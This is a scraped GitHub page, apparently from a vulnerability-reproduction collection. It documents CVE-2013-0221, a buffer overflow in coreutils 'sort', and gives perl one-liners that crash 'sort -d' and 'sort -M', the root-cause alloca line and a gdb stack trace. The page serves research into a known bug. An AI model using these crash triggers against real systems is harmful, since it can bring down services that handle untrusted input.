Skip to content
Branch: master
Find file History
Pull request Compare This branch is 1 commit ahead, 3 commits behind mudongliang:master.
Fetching latest commit…
Cannot retrieve the latest commit at this time.
Type Name Latest commit message Commit time
Failed to load latest commit information.

CVE-2013-0221 & EDB-38232

Experiment EnvironmentCentOS 6.4

INSTALL & Configuration


tar -xvf coreutils-8.4-patched.tar.gz
cd coreutils-8.4

Problems in Installation & Configuration

How to trigger vulnerability

    perl -e 'print "1","A"x50000000,"\r\n\r\n"' | sort -d

    perl -e 'print "1","A"x50000000,"\r\n\r\n"' | sort -M


GNU Coreutils 'sort' Text Utility - Buffer Overflow

Vulnerability Details & PatchRoot Cause


    char *copy_a = (char *) alloca (lena + 1 + lenb + 1);

Stack Trace

(gdb) info stack
#0  0x08051bc0 in keycompare_mb (a=0xb6f00048, b=0xb6f00038) at sort.c:2722
#1  0x0804a556 in compare (a=0xb6f00048, b=0xb6f00038) at sort.c:2787
#2  0x0804cc52 in sortlines (lines=0xb6f00058, nlines=<value optimized out>, temp=0xb6f00038) at sort.c:3195
#3  0x0804fd52 in sort (argc=2, argv=0xbf8a9654) at sort.c:3496
#4  main (argc=2, argv=0xbf8a9654) at sort.c:4328


[1]CVE-2013-0221: coreutils: segmentation fault in "sort -d" and "sort -M" with long line input

You can’t perform thataction at this time.